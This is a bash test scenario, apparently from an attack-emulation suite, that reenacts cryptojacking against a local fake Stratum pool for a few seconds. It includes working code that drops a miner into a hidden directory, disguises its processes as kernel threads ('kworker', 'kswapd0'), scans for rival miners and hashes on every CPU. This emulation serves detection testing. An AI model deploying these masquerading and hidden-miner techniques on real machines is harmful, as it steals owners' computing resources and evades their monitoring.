#!/usr/bin/env bash
# Family: cryptominer — cryptojacking as done by Kinsing/TeamTNT/8220 droppers: check the CPU and
# for rival miners, benchmark, drop a miner into a hidden dir, start it under a kernel-thread-like
# name (`exec -a '[kworker/0:2]'` plus prctl(PR_SET_NAME)), speak Stratum JSON-RPC
# (mining.subscribe / mining.authorize / mining.notify / mining.submit) to a pool and burn every
# CPU on hashes for a while.
#
# The "pool" is a local Stratum-like listener started in `setup` on 127.0.0.1:3333 (or the next
# free port). The hashing is bounded in time (8-12 s).
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init cryptominer

do_setup() {
    kill_all_pidfiles
    local port=3333
    while port_listening "$port" && ((port < 3343)); do port=$((port + 1)); done
    echo "$port" >"$W/port"
    cat >"$W/pool.py" <<'EOF'
# Minimal Stratum v1 pool: answers subscribe/authorize/submit, pushes jobs. Exits after 30 min.
import socket, sys, json, threading, time, os
port = int(sys.argv[1])
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", port)); srv.listen(8); srv.settimeout(1.0)
deadline = time.time() + 1800
def send(c, obj): c.sendall((json.dumps(obj) + "\n").encode())
def client(c):
    f = c.makefile("r")
    try:
        for line in f:
            try: req = json.loads(line)
            except ValueError: continue
            m, i = req.get("method"), req.get("id")
            if m == "mining.subscribe":
                send(c, {"id": i, "result": [[["mining.notify", "ae6812eb4cd7735a"]], os.urandom(4).hex(), 4], "error": None})
            elif m == "mining.authorize":
                send(c, {"id": i, "result": True, "error": None})
                send(c, {"id": None, "method": "mining.set_difficulty", "params": [1]})
                send(c, {"id": None, "method": "mining.notify", "params": [os.urandom(4).hex(), os.urandom(32).hex(), "01000000", "ffffffff", [], "20000000", "1d00ffff", "%08x" % int(time.time()), True]})
            elif m == "mining.submit":
                send(c, {"id": i, "result": True, "error": None})
            elif m == "mining.extranonce.subscribe":
                send(c, {"id": i, "result": True, "error": None})
    except OSError:
        pass
    finally:
        c.close()
while time.time() < deadline:
    try: c, _ = srv.accept()
    except socket.timeout: continue
    threading.Thread(target=client, args=(c,), daemon=True).start()
EOF
    start_daemon pool "$PY" "$W/pool.py" "$port"
    wait_port 127.0.0.1 "$port" 10
}

do_run() {
    local port d="$W/.X11-unix/.rsync" secs
    port=$(cat "$W/port")
    secs=$(rand_int 8 12)
    cd "$W"
    # 1. recon: CPUs, load, rival miners, hugepages (xmrig wants them)
    nproc
    grep -m1 'model name' /proc/cpuinfo || true
    grep -c ^processor /proc/cpuinfo
    cat /proc/loadavg
    ps -eo pid,pcpu,comm,args --sort=-pcpu | grep -E 'xmrig|kdevtmpfsi|kinsing|minerd|cpuminer' | grep -v grep || true
    grep -i huge /proc/meminfo | upto 3
    # 2. quick benchmark to pick the number of threads
    timeout 8 bash -c 'exec -a kswapd0 openssl speed -seconds 1 -bytes 64 sha256' >/dev/null 2>&1 || true
    # 3. drop the miner into a hidden directory
    mkdir -p "$d"
    cat >"$d/.sysupdate" <<'EOF'
import socket, json, hashlib, os, sys, time, ctypes, struct
host, port, secs, workers = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
# rename the thread like a kernel worker (PR_SET_NAME)
try: ctypes.CDLL(None).prctl(15, b"kworker/0:2", 0, 0, 0)
except Exception: pass
s = socket.create_connection((host, port), timeout=5)
f = s.makefile("r")
def rpc(i, m, p): s.sendall((json.dumps({"id": i, "method": m, "params": p}) + "\n").encode())
rpc(1, "mining.subscribe", ["xmrig/6.21.0", None])
rpc(2, "mining.authorize", ["44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SKx.worker1", "x"])
rpc(3, "mining.extranonce.subscribe", [])
job = None
while job is None:
    msg = json.loads(f.readline())
    if msg.get("method") == "mining.notify": job = msg["params"]
r, w = os.pipe()
pids = []
for k in range(workers):
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try: ctypes.CDLL(None).prctl(15, b"kworker/%d:1" % k, 0, 0, 0)
        except Exception: pass
        base = bytes.fromhex(job[1]); n = k; end = time.time() + secs
        while time.time() < end:
            for _ in range(20000):
                h = hashlib.sha256(hashlib.sha256(base + struct.pack("<I", n)).digest()).digest()
                if h[0] == 0 and h[1] == 0:
                    os.write(w, struct.pack("<I", n))
                n += workers
        os._exit(0)
    pids.append(pid)
os.close(w)
sub = 10
while True:
    d = os.read(r, 4)
    if not d: break
    rpc(sub, "mining.submit", ["worker1", job[0], "00000000", job[7], "%08x" % struct.unpack("<I", d)[0]])
    sub += 1
for pid in pids: os.waitpid(pid, 0)
s.close()
print("submitted", sub - 10, "shares")
EOF
    chmod +x "$d/.sysupdate"
    # 4. run it with a fake process name, low priority, one worker per CPU
    timeout $((secs + 10)) nice -n 10 bash -c "exec -a '[kworker/0:2]' '$PY' '$d/.sysupdate' 127.0.0.1 $port $secs $(nproc)"
    # 5. clean the dropped file (the pool keeps the connection count)
    rm -rf "${W:?}/.X11-unix"
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
